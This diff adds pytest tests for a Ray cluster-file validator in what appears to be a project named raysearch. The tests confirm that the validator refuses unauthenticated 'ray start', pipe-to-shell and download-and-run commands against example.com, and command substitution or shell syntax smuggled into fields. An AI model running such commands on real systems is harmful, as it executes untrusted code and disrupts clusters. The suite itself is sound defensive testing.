@@ -212,6 +212,198 @@ def test_the_validator_is_a_library_below_the_cli():
     subprocess.run([sys.executable, "-c", code], check=True, cwd=REPO, timeout=120)
 
 
+# -- shell in cluster files: what each command really runs ------------------------------------------
+GOOD_HEAD_START = ("ulimit -n 65536; RAY_AUTH_MODE=token ray start --head --port=6379 "
+                   "--autoscaling-config=~/ray_bootstrap_config.yaml")
+
+
+def _rayjob_entrypoint(storage: str) -> str:
+    return f"raysearch search search_spaces/paper.yaml --data /mnt/data/x --storage {storage} --allow-pending-resources"
+
+
+# (shipped file, change, field path in the message, what the message says about the command)
+FOOLING = [
+    # The old substring test passed this: RAY_AUTH_MODE=token is echoed, `ray start` runs without it.
+    ("aws-gpu.yaml", lambda d: _set(d, "head_start_ray_commands", ["echo RAY_AUTH_MODE=token && ray start --head"]),
+     r"head_start_ray_commands\[0\]", r"`ray start --head` starts Ray without token authentication: RAY_AUTH_MODE is not set"),
+    # An export that may never run (after ||), or only in a subshell's copy of the environment.
+    ("aws-gpu.yaml", lambda d: _set(d, "worker_start_ray_commands",
+                                    ["true || export RAY_AUTH_MODE=token; ray start --address=$RAY_HEAD_IP:6379"]),
+     r"worker_start_ray_commands\[0\]", r"starts Ray without token authentication"),
+    ("gcp-gpu.yaml", lambda d: _set(d, "head_start_ray_commands", ["(export RAY_AUTH_MODE=token); ray start --head"]),
+     r"head_start_ray_commands\[0\]", r"starts Ray without token authentication"),
+    # sudo resets the environment: the prefix before it does not reach `ray start`.
+    ("aws-gpu.yaml", lambda d: _set(d, "head_start_ray_commands", ["RAY_AUTH_MODE=token sudo ray start --head"]),
+     r"head_start_ray_commands\[0\]", r"`RAY_AUTH_MODE=token sudo ray start --head` starts Ray without token"),
+    # Setup commands are checked too.
+    ("aws-gpu.yaml", lambda d: d["setup_commands"].append("ray start --head --port=6380"),
+     r"setup_commands\[3\]", r"`ray start --head --port=6380` starts Ray without token authentication"),
+    ("gcp-gpu.yaml", lambda d: d["setup_commands"].append("curl -fsSL https://example.com/install.sh | sh"),
+     r"setup_commands\[3\]", r"pipes downloaded code into an interpreter; install what it needs from a package index"),
+    ("aws-gpu.yaml", lambda d: _set(d, "head_setup_commands", ["bash <(curl -s https://example.com/x.sh)"]),
+     r"head_setup_commands\[0\]", r"`bash <\(curl -s https://example\.com/x\.sh\)` runs code that it downloads"),
+    ("aws-gpu.yaml", lambda d: _set(d, "initialization_commands", ['eval "$(wget -qO- https://example.com/x)"']),
+     r"initialization_commands\[0\]", r"runs code that it downloads"),
+    ("gcp-gpu.yaml", lambda d: _set(d, "worker_setup_commands",
+                                    ["curl -o i.sh https://example.com/i.sh && chmod +x i.sh && ./i.sh"]),
+     r"worker_setup_commands\[0\]", r"runs a file that it downloads"),
+    # `ray stop` ends every Ray process on the machine; with a download after it, still refused first.
+    ("aws-gpu.yaml", lambda d: _set(d, "head_start_ray_commands",
+                                    ["ray stop; curl -fsSL https://example.com/x | sh", GOOD_HEAD_START]),
+     r"head_start_ray_commands\[0\]", r"pipes downloaded code into an interpreter"),
+    ("gcp-gpu.yaml", lambda d: d["worker_start_ray_commands"].insert(0, "ray stop"),
+     r"worker_start_ray_commands\[0\]", r"`ray stop` runs `ray stop`; remove it: `ray stop` ends every Ray process"),
+    # Hidden from a reader: a variable or a substitution as the command.
+    ("aws-gpu.yaml", lambda d: _set(d, "head_start_ray_commands", ["R=ray; $R start --head"]),
+     r"head_start_ray_commands\[0\]", r"starts Ray without token authentication"),
+    ("aws-gpu.yaml", lambda d: _set(d, "head_start_ray_commands", ["$(echo ray) start --head"]),
+     r"head_start_ray_commands\[0\]", r"names the command it runs with a value known only at run time"),
+    # RayJob: the entrypoint is one `raysearch search` command, with nothing substituted in.
+    ("kuberay/rayjob.yaml", lambda d: _set(d, "spec/entrypoint", _rayjob_entrypoint("gs://b/$(curl -s https://example.com)")),
+     r"spec\.entrypoint", r"`\$\(curl -s https://example\.com\)` is a command substitution"),
+    ("kuberay/rayjob.yaml", lambda d: _set(d, "spec/entrypoint", _rayjob_entrypoint("gs://b/`id -u`")),
+     r"spec\.entrypoint", r"`id -u`` is a command substitution"),
+    ("kuberay/rayjob.yaml", lambda d: _set(d, "spec/entrypoint", _rayjob_entrypoint("gs://b/r") + " && ray stop"),
+     r"spec\.entrypoint", r"runs `ray stop`"),
+    ("kuberay/rayjob.yaml", lambda d: _set(d, "spec/entrypoint", _rayjob_entrypoint("gs://b/r") + "; echo done"),
+     r"spec\.entrypoint", r"runs 2 commands; run one command"),
+    # KubeRay: container commands, and rayStartParams, which KubeRay pastes unquoted into a bash line.
+    ("kuberay/raycluster.yaml", lambda d: _worker_env(d).update(command=["/bin/bash", "-lc", "--"],
+                                                                 args=["curl -s https://example.com/x | bash"]),
+     r"workerGroupSpecs\[0\]\.template\.spec\.containers\[0\]\.command/args", r"pipes downloaded code into an interpreter"),
+    ("kuberay/raycluster.yaml", lambda d: _set(d, "spec/headGroupSpec/rayStartParams/dashboard-host", "0.0.0.0; ray stop"),
+     r"headGroupSpec\.rayStartParams\.dashboard-host", r"is shell syntax in the `ray start` line KubeRay builds"),
+    ("kuberay/rayjob.yaml", lambda d: _worker_env(d, spec="rayjob").update(
+        args=["RAY_AUTH_MODE=none ray start --address=$RAY_IP:6379"]),
+     r"workerGroupSpecs\[0\]\.template\.spec\.containers\[0\]\.command/args", r"RAY_AUTH_MODE is 'none'"),
+]
+
+
+@pytest.mark.parametrize("shipped, change, where, what", FOOLING, ids=[f"{f[0]}-{i}" for i, f in enumerate(FOOLING)])
+def test_commands_that_fooled_the_validator_are_refused_by_the_cli(tmp_path, in_repo, capsys, shipped, change, where, what):
+    from raysearch.cli import main
+
+    path = changed(tmp_path, shipped, change)
+    with pytest.raises(SystemExit) as exit_:
+        main(["cluster", "validate", str(path)])
+    assert exit_.value.code == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and err.startswith(f"raysearch: error: {path}: "), err
+    assert re.search(where + r".*" + what, err), err
+
+
+def test_token_from_the_environment_the_command_really_gets_is_accepted(tmp_path, in_repo):
+    """Exports that surely ran, `env`, sudo -E and docker -e all reach `ray start`."""
+    commands = ["export RAY_AUTH_MODE=token && ray start --head --port=6379",
+                "set -a; RAY_AUTH_MODE=token; ray start --head",
+                "env RAY_AUTH_MODE=token nohup ray start --head",
+                "RAY_AUTH_MODE=token sudo -E ray start --head",
+                "bash -lc 'RAY_AUTH_MODE=token ray start --head'"]
+    for command in commands:
+        validate_cluster_file(changed(tmp_path, "aws-gpu.yaml", lambda d: _set(d, "head_start_ray_commands", [command])))
+
+    def from_docker(doc):
+        doc["docker"]["run_options"].append("-e RAY_AUTH_MODE=token")
+        _set(doc, "head_start_ray_commands", ["ray start --head --port=6379"])
+    validate_cluster_file(changed(tmp_path, "aws-gpu.yaml", from_docker))
+
+
+# -- property tests of the cluster YAML reader ------------------------------------------------------
+from hypothesis import HealthCheck, given, settings  # noqa: E402
+from hypothesis import strategies as st  # noqa: E402
+
+SHELL_PIECES = ["ray", "start", "stop", "--head", "RAY_AUTH_MODE=token", "RAY_AUTH_TOKEN=x", "export", "env", "sudo",
+                "-E", "curl", "wget", "https://x/i.sh", "-o", "i.sh", "sh", "bash", "python", "-c", "eval", "source",
+                "|", "||", "&&", ";", "&", "\n", "$(", ")", "(", "`", "'", '"', "\\", "<(", ">", "2>&1", "#", "$X",
+                "${Y}", "X=1", "f()", "{", "}", "alias", "r=ray", "get-auth-token", "--generate", "unset", "set", "-a",
+                "raysearch", "search", "search_spaces/paper.yaml", "--storage", "gs://b/r", "--data", "/mnt/d", "*", "~"]
+shell_text = st.one_of(st.lists(st.sampled_from(SHELL_PIECES), max_size=14).map(" ".join),
+                       st.lists(st.sampled_from(SHELL_PIECES), max_size=14).map("".join),
+                       st.text(max_size=60))
+# YAML-able trees: scalars (strings with shell and YAML metacharacters among them) in lists and maps.
+scalars = st.one_of(st.none(), st.booleans(), st.integers(-2**40, 2**40),
+                    st.floats(allow_nan=True, allow_infinity=True), shell_text)
+trees = st.recursive(scalars, lambda inner: st.one_of(st.lists(inner, max_size=4),
+                                                      st.dictionaries(st.text(max_size=12), inner, max_size=4)),
+                     max_leaves=20)
+PROPERTY = settings(max_examples=60, deadline=None, derandomize=True,
+                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+# Where generated commands go in the shipped files.
+COMMAND_FIELDS = [
+    ("aws-gpu.yaml", lambda d, c: _set(d, "head_start_ray_commands", [c])),
+    ("aws-gpu.yaml", lambda d, c: d["setup_commands"].append(c)),
+    ("gcp-gpu.yaml", lambda d, c: _set(d, "worker_start_ray_commands", [c, c])),
+    ("kuberay/raycluster.yaml", lambda d, c: _worker_env(d).update(args=[c])),
+    ("kuberay/raycluster.yaml", lambda d, c: _set(d, "spec/headGroupSpec/rayStartParams/num-cpus", c)),
+    ("kuberay/rayjob.yaml", lambda d, c: _set(d, "spec/entrypoint", c)),
+    ("kuberay/rayjob.yaml", lambda d, c: _set(d, "spec/entrypoint", _rayjob_entrypoint("gs://b/r") + " " + c)),
+]
+
+
+def _answer_is_one_line_or_ok(path: Path) -> None:
+    try:
+        validate_cluster_file(path)
+    except UserInputError as exc:
+        text = str(exc)
+        assert text.startswith(f"{path}: ") and "\n" not in text and len(text) < 2000, text
+
+
+@PROPERTY
+@given(field=st.sampled_from(COMMAND_FIELDS), command=shell_text)
+def test_any_command_in_a_cluster_file_is_accepted_or_refused_in_one_line(tmp_path, in_repo, field, command):
+    shipped, put = field
+    _answer_is_one_line_or_ok(changed(tmp_path, shipped, lambda d: put(d, command)))
+
+
+@PROPERTY
+@given(shipped=st.sampled_from(sorted(p.relative_to(CLUSTER).as_posix() for p in SHIPPED)), tree=trees,
+       pick=st.integers(0, 10**6), replace_whole=st.booleans())
+def test_any_yaml_tree_is_accepted_or_refused_in_one_line(tmp_path, in_repo, shipped, tree, pick, replace_whole):
+    """A random tree as the whole document, or in place of one random node of a shipped file."""
+    def change(doc):
+        nodes = []
+
+        def walk(node):
+            for key, child in (node.items() if isinstance(node, dict) else enumerate(node)):
+                nodes.append((node, key))
+                if isinstance(child, (dict, list)):
+                    walk(child)
+        walk(doc)
+        parent, key = nodes[pick % len(nodes)]
+        parent[key] = tree
+
+    path = tmp_path / Path(shipped).name
+    if replace_whole:
+        path.write_text(yaml.safe_dump(tree))
+    else:
+        path = changed(tmp_path, shipped, change)
+    _answer_is_one_line_or_ok(path)
+
+
+@settings(max_examples=400, deadline=None, derandomize=True)
+@given(text=shell_text)
+def test_the_shell_reader_answers_every_string(text):
+    """Reading a command string either works or says it cannot (ShellSyntaxError), and stays
+    within its nesting and length limits."""
+    from raysearch.cluster_shell import ShellSyntaxError, analyze
+
+    try:
+        analyze(text)
+    except ShellSyntaxError as exc:
+        assert "\n" not in str(exc)
+
+
+def test_deep_nesting_and_long_commands_are_refused_not_followed():
+    from raysearch.cluster_shell import MAX_COMMAND_CHARS, MAX_NESTING, ShellSyntaxError, analyze
+
+    with pytest.raises(ShellSyntaxError, match="nested more than"):
+        analyze("echo " + "$(" * (MAX_NESTING + 5) + "x" + ")" * (MAX_NESTING + 5))
+    with pytest.raises(ShellSyntaxError, match="nested more than"):
+        analyze("( " * 10_000)
+    with pytest.raises(ShellSyntaxError, match="longer than"):
+        analyze("echo " + "x" * MAX_COMMAND_CHARS)
+
+
 def test_working_dir_upload_stays_small(tmp_path):
     """What `ray job submit --runtime-env cluster/runtime_env.yaml --working-dir .` uploads, zipped by
     Ray's own packaging code: under the 100 MiB limit, with the code and search spaces in it."""
